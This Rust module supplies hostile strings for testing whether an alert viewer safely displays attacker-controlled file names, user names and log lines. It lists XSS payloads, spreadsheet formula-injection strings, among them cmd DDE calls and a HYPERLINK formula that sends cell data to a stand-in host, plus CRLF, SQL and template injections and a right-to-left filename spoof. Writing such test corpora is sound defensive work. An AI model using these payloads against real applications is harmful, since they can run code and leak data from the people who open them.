//! Texts that attack a careless reader of alerts: each is harmless as text and harmful as anything else.

use crate::random::Random;

/// Texts as an attacker would leave them in a file name, a user name or a log line.
const HOSTILE: &[&str] = &[
    "<img src=x onerror=alert('triage')>",
    "<script>document.title='owned'</script>",
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "=HYPERLINK(\"http://203.0.113.66/?leak=\"&A1,\"open me\")",
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "first line\nsecond line\r\nthird line",
    "semicolon;comma,\"quoted\" and 'single'",
    "back\\slash \\n \\u0041 C:\\Users\\Public\\run.ps1",
    "%00%0d%0aSet-Cookie: a=b",
    "{{constructor.constructor('alert(1)')()}} ${7*7}",
    "'; DROP TABLE alerts; --",
    "Грубый подбор пароля к серверу",
    "パスワード総当たり攻撃を検出しました",
    "محاولة دخول غير مصرح بها",
    "İstanbul ŞUBE ığüşöç Straße ﬁnance",
    "\u{202e}gpj.exe\u{202c} turned around",
    "zero\u{200b}width\u{feff}marks",
    "👩🏽‍💻🔥 emoji with joiners",
    "e\u{301}\u{301}\u{301} stacked accents",
    "__proto__",
    "null",
    "a_word_without_any_end_that_no_table_cell_can_break_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
];

/// One of the hostile texts.
pub(crate) fn hostile_text(random: &mut Random) -> &'static str {
    random.word(HOSTILE)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_of_attack_is_there() {
        let all = HOSTILE.join("\u{1}");
        for part in ["<script", "onerror=", "javascript:", "=cmd", "@SUM", "\n", "\t", "\"", "'", "\\"] {
            assert!(all.contains(part), "{part} is missing");
        }
        assert!(HOSTILE.iter().any(|text| !text.is_ascii()));
    }
}
